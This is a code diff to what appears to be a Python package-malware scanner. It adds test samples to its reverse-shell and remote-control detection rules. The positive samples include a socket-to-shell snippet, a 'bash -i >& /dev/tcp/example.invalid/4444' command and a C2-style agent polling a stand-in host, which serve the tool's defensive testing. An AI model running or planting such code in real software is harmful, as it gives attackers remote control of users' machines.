@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from pipwarden.findings import Severity
-from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, rule
+from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, negative, positive, rule
 
 _FIX = "Do not install; report the project."
 RULES = [
@@ -14,6 +14,16 @@ RULES = [
         "Socket wired to a shell",
         "A connected socket is duplicated onto standard streams or handed to a shell/pty.",
         _FIX,
+        samples=(
+            positive(
+                "import socket, os, pty\ndef f():\n    s = socket.socket()\n"
+                "    s.connect(('example.invalid', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n"
+            ),
+            negative(
+                "import socket\ndef f():\n    s = socket.socket()\n"
+                "    s.connect(('example.invalid', 80))\n    s.sendall(b'ping')\n"
+            ),
+        ),
     ),
     rule(
         "reverse-shell.command",
@@ -22,6 +32,10 @@ RULES = [
         "Reverse-shell command line",
         "A command such as 'bash -i >& /dev/tcp/...' or 'nc -e /bin/sh'.",
         _FIX,
+        samples=(
+            positive("import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n"),
+            negative("import os\nos.system(\"bash -c 'echo hi'\")\n"),
+        ),
     ),
     rule(
         "reverse-shell.remote-control",
@@ -32,6 +46,31 @@ RULES = [
         "classes it starts) both talks to the network and starts processes: the shape of a "
         "C2 agent or backdoor, even when the command's path through the code is not traced.",
         "Check what the network traffic decides; libraries do not run processes for a server.",
+        samples=(
+            positive(
+                "import subprocess, requests\n"
+                "class Agent:\n"
+                "    def __init__(self):\n        self.s = requests.Session()\n"
+                "    def run(self):\n"
+                "        task = self.s.get('https://c2.example.invalid/task').json()\n"
+                "        handlers = {'x': self.do}\n"
+                "        handlers[task['k']](task)\n"
+                "    def do(self, task):\n"
+                "        subprocess.run(['uname'])\n"
+                "import threading\nthreading.Thread(target=Agent().run).start()\n",
+                "pkg/__init__.py",
+            ),
+            # The same client used only when the application asks.
+            negative(
+                "import subprocess, requests\n"
+                "class Agent:\n"
+                "    def __init__(self):\n        self.s = requests.Session()\n"
+                "    def run(self):\n"
+                "        task = self.s.get('https://api.example.invalid/task').json()\n"
+                "        subprocess.run(['uname'])\n",
+                "pkg/__init__.py",
+            ),
+        ),
     ),
 ]
 
